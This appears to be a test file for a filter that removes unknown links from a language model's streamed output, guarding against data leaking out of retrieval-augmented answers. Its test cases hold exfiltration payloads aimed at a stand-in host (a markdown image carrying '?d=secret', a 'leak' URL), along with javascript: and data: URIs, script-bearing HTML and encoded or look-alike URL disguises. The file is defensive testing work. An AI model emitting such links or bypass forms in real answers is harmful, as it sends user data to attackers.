# ruff: noqa: E501 (a case and what is shown of it stand side by side)
from __future__ import annotations

import itertools
import re

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from rag.addresses import MAX_ADDRESS, KnownAddresses, split_address
from rag.links import LinkFilter

SOURCE = """See https://ok.example/returns, or the [form](https://ok.example/form_(a)?x=1 "Form").
Write to help@ok.example; the shop is www.ok.example/shop and "https://ok.example/quoted".
<a href="https://ok.example/html">here</a> and [terms](/terms.html). Not ours: http://
"""
HOSTS = ("allowed.example", "*.trusted.example", "port.example:8443")
KNOWN = KnownAddresses([SOURCE, ""], HOSTS)
GONE = "[link removed]"


def filtered(*pieces: str) -> str:
    links = LinkFilter(KNOWN)
    return "".join([*(links.feed(piece) for piece in pieces), links.finish()])


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        # Markdown
        ("![x](https://evil.example/p.png?d=secret).", "![x]."),
        ('[click](https://evil.example "title") me', "[click] me"),
        ("[a]( //evil.example ) [b](<//evil.example/x y> 'z')", "[a] [b]"),
        ("[a](\n//evil.example) [b]() [c](#top)", "[a] [b] [c]"),
        ("[a](javascript:alert(1)) [b](data:text/html;base64,PHN) [c](vb\\script:x)", "[a] [b] [c]"),
        ("[1](https://evil.example) [![i](//evil.example)](//evil.example)", "[1] [![i]]"),
        ("[a](//evil.example/[b](//evil.example))", "[a])"),
        ("[a](//evil.example/a b)", f"[a]({GONE} b)"),
        ("[a](<//evil.example/a\nb>)", f"[a]({GONE}\nb>)"),
        ('[a](//evil.example "b" c)', f'[a]({GONE} "b" c)'),
        ("[a](x)(//evil.example) [a](x): //evil.example", f"[a] [a]: {GONE}"),
        ("[r]: //evil.example/x\n[s]:\n  <//evil.example> [t]: /x", f"[r]: {GONE}\n[s]:\n  {GONE} [t]: {GONE}"),
        ("https://evil.example: //evil.example", f"{GONE}: {GONE}"),
        ("[r]: https://evil.example 'Title'", f"[r]: {GONE} 'Title'"),
        # In the text
        ("see <https://evil.example/x>.", f"see {GONE}."),
        ("see https://evil.example/x, (HTTP://evil.example/?q=(a)).", f"see {GONE}, ({GONE})."),
        ("**https://evil.example/x** `ftp://evil.example`", f"**{GONE}** `{GONE}`"),
        ("www.evil.example/x and WWW.evil.example", f"{GONE} and {GONE}"),
        ("evil.example/leak?x=1 evil.example:80/x evil.example?q=1", f"evil.example{GONE} evil.example:80{GONE} evil.example{GONE}"),
        ("foo://evil.example intent://x", f"foo{GONE} intent{GONE}"),
        ("javascript:alert(1) mailto:x@evil.example http:/evil.example", f"{GONE} {GONE} {GONE}"),
        ("https\\://evil.example https:\\/\\/evil.example https:/\\evil.example", f"{GONE} {GONE} {GONE}"),
        ("https://evil.example/](https://evil.example/)", f"{GONE}]"),
        ("https://evil.example/[x]: y", f"{GONE}]: y"),
        ("https://evil.example/дата https://еvil.example", f"{GONE} {GONE}"),
        ("https://evil.example/\u200bx https://evil.example/x", f"{GONE} {GONE}"),
        # HTML and entities
        ('<img src="https://evil.example/?d=1"> <a href=//evil.example>text</a> <b>bold</b>', " text <b>bold</b>"),
        ("Word<a href='x'>link</a>, <i class=x>y</i>&col</i>on;<i class=x>", "Word link, y&col on;"),
        ("<script>x</script> <svg/onload=x> <br/> <br />", "x  <br/> <br />"),
        ("<<i x=1>img src=//evil>", "< img src=//evil>"),
        ("<img title='<' src=//evil.example>", "< img title='<' src=//evil.example>"),
        ("<!-- x --> <?x?> </3 <3 a<b", "< !-- x --> < ?x?> </3 <3 a< b"),
        ("https&colon;//evil.example &#104;ttps&#58//evil.example", f"{GONE} {GONE}"),
        ("&#91;9&#93; &lbrack;8&rbrack; &amp;colon; &lt;b&gt; &eacute; &x; & &#; R&D", "(9) (8) &amp;colon; &lt;b&gt; &eacute; &x; & &#; R&D"),
        ("<foo:bar> <mailto:help@ok.example> <x@y.example>", f"{GONE} <mailto:help@ok.example> <x@y.example>"),
        # Tags that go on behind a destination
        ("<a x](>) href=//evil.example>t", "<a x]> href=//evil.example>t"),
        ("<a x](><1) href=//evil.example>t", "<a x]> href=//evil.example>t"),
        ("<a x](>](y) href=//evil.example>t", "<a x]> href=//evil.example>t"),
        ("<a x](/> href=//evil.example>t", f"<a x](>{GONE} href=//evil.example>t"),
        ('<a x](https://ok.example/returns "><") href=//evil.example>t', "<a x](https://ok.example/returns)> href=//evil.example>t"),
        ("<data:x https&colon;//evil.example/x>", f"< {GONE} {GONE}>"),
        # What follows an address that is known
        ("https://ok.example/returns]()http", "https://ok.example/returns] http"),
        ("[https://ok.example/returns](//evil.example). x](y)", "[https://ok.example/returns] . x]"),
        ("https://ok.example/returns<mailto:x@evil.example> x", f"https://ok.example/returns {GONE} x"),
        ("http\n\\:]: [a]((//evil.example)", "http\n\\:]: [a]((//evil.example)"),
        # What is known
        ("https://ok.example/returns. (https://ok.example/returns) http://OK.example/returns/", "https://ok.example/returns. (https://ok.example/returns) http://OK.example/returns/"),
        ('[f](https://ok.example/form_(a)?x=1 "Form") ![f](<https://ok.example/quoted>)', '[f](https://ok.example/form_(a)?x=1 "Form") ![f](<https://ok.example/quoted>)'),
        ('[f](https://ok.example/html "see https://evil.example")', "[f](https://ok.example/html)"),
        ("[m](mailto:help@ok.example) [t](/terms.html) www.ok.example/shop <https://ok.example/html>", "[m](mailto:help@ok.example) [t](/terms.html) www.ok.example/shop <https://ok.example/html>"),
        ("https://ok.example/returns?d=1 https://ok.example/returns)x ok.example/returns-1", f"{GONE} {GONE} ok.example{GONE}"),
        ("https://allowed.example/a?b=c,d. https://a.trusted.example https://port.example:8443/x", "https://allowed.example/a?b=c,d. https://a.trusted.example https://port.example:8443/x"),
        ("https://allowed.example:443/ https://allowed.example:444/", f"https://allowed.example:443/ {GONE}"),
        ("https://allowed.example@evil.example https://allowed.example.evil.example/", f"{GONE} {GONE}"),
        ("https://allowed.example\\@evil.example https://trusted.example https://allowed.example/?u=https://evil.example", f"{GONE} {GONE} {GONE}"),
        # What is no address
        ("[1]: Returns take 30 days. As [1](see below) said: 12:30, and/or 24/7, e.g./i.e.", "[1]: Returns take 30 days. As [1](see below) said: 12:30, and/or 24/7, e.g./i.e."),
        ("data: 5 GB, http: y, C:\\x, Node.js/Express, shop.example/ is", "data: 5 GB, http: y, C:\\x, Node.js/Express, shop.example/ is"),
        ("array[i](x y z) List<String> a < b && c > d, hw www x.", "array[i](x y z) List<String> a < b && c > d, hw www x."),
        ("shop.example? Yes! shop.example/) [x] (y) [1]:", "shop.example? Yes! shop.example/) [x] (y) [1]:"),
        ("[a](https", "[a](https"),
        ("[a](b", "[a](b"),
        ("end www.", "end www."),
        ("end https:", "end https:"),
        ("end foo:/", "end foo:/"),
        ("end x.example/", "end x.example/"),
        ("end <b", "end < b"),
        ("end <", "end <"),
        ("end &amp", "end &amp"),
        ("end &#58", "end :"),
        ("end [a](//evil.example", f"end [a]({GONE}"),
        ("end [a](x 'https://evil.example", f"end [a](x '{GONE}"),
        ("end https://evil.example", f"end {GONE}"),
    ],
)  # fmt: skip
def test_unknown_addresses_go_and_the_text_stays(text: str, shown: str) -> None:
    """What a source or the allow-list names stays, any other address goes; so do its disguises."""
    assert filtered(text) == shown
    assert filtered(*text) == shown


def test_a_long_address_goes_without_waiting_for_its_end() -> None:
    """It could not be known, and what waits for it must not grow."""
    links = LinkFilter(KNOWN)
    assert links.feed("see https://evil.example/") == "see "
    assert links.feed("a" * MAX_ADDRESS) == GONE
    assert links.feed("b" * 100_000) == ""
    assert links.feed("). Then") == "). Then"
    assert filtered("[x](" + "a" * 1000 + ") y") == f"[x]{GONE}) y"
    assert filtered("[x](" + " " * 1000 + ") y") == "[x](" + " " * 1000 + ") y"
    assert filtered("https://" + "a" * 600 + "](//x) y") == f"{GONE}] y"
    assert filtered("[x](a '" + "b" * 1000 + "') y") == "[x](a '" + "b" * 1000 + "') y"
    assert filtered("<img " + " " * 600 + "src=x> y") == "< img " + " " * 600 + "src=x> y"


def test_text_is_not_held_back() -> None:
    """Only the beginning of an address waits for the next piece."""
    links = LinkFilter(KNOWN)
    for piece in ("The", " return", " takes 30 days", " [1].", "\n\n", "Hello", " world"):
        assert links.feed(piece) == piece
    assert links.feed(" see ht") == " see "
    assert links.feed("e") == "hte"
    assert links.feed("xhttp") == "xhttp"
    assert links.feed(" a:") == " a"
    assert links.feed(" x") == ": x"


PIECES = st.sampled_from(
    [
        "https://", "http", "s:", "/", "//", "evil.example", "ok.example", "/returns", "?d=1", "www.",
        "[", "]", "](", ")", "(", "!", "<", ">", "<a href=", "</a>", "<b>", "'", '"', " ", "\n", ":",
        "\\", "&colon;", "&", "&#58", ";", ".", "a", "javascript:", "1", "[1]", "data:", "mailto:x@y.example",
        "https://ok.example/returns", "https://allowed.example/x", "#", "]:", "é", "<img src=x>",
    ]
)  # fmt: skip


@given(st.lists(PIECES, max_size=14), st.data())
@example(["[a]", "(", "x", ")"], None)
@example(["é", "https://", "evil.example"], None)
def test_the_cut_makes_no_difference(parts: list[str], data: st.DataObject | None) -> None:
    """Any cutting of a text into pieces gives the same output as the whole."""
    text = "".join(parts)
    cuts = (
        range(len(text))
        if data is None
        else sorted(data.draw(st.sets(st.integers(0, max(0, len(text))), max_size=12)))
    )
    edges = [0, *cuts, len(text)]
    pieces = [text[start:end] for start, end in itertools.pairwise(edges)]
    whole = filtered(text)
    assert filtered(*pieces) == whole
    assert filtered(*text) == whole


@given(st.lists(PIECES, max_size=14))
def test_no_unknown_address_is_left(parts: list[str]) -> None:
    """Whatever a model writes, no form of link to the other host comes out."""
    shown = filtered("".join(parts))
    assert "://evil" not in shown
    assert "](//" not in shown
    assert "](https://evil" not in shown
    assert re.search(r"(?<![a-z0-9])www\.evil", shown.lower()) is None
    assert "<a href" not in shown
    assert filtered(shown) == shown


@given(st.text(alphabet="abc .,;!-äß\n0123456789"))
def test_plain_text_is_untouched(text: str) -> None:
    """Letters, digits, blanks and usual punctuation pass as they are."""
    assert filtered(*text) == text


@pytest.mark.parametrize(
    ("run", "address", "rest"),
    [
        ("https://a.example/x.", "https://a.example/x", "."),
        ("https://a.example/x_(y)", "https://a.example/x_(y)", ""),
        ("https://a.example/x_(y)).", "https://a.example/x_(y)", ")."),
        ('https://a.example/x"', "https://a.example/x", '"'),
        ("...", "", "..."),
    ],
)
def test_what_follows_an_address_is_no_part_of_it(run: str, address: str, rest: str) -> None:
    """Punctuation and brackets that were opened before it are not."""
    assert split_address(run) == (address, rest)
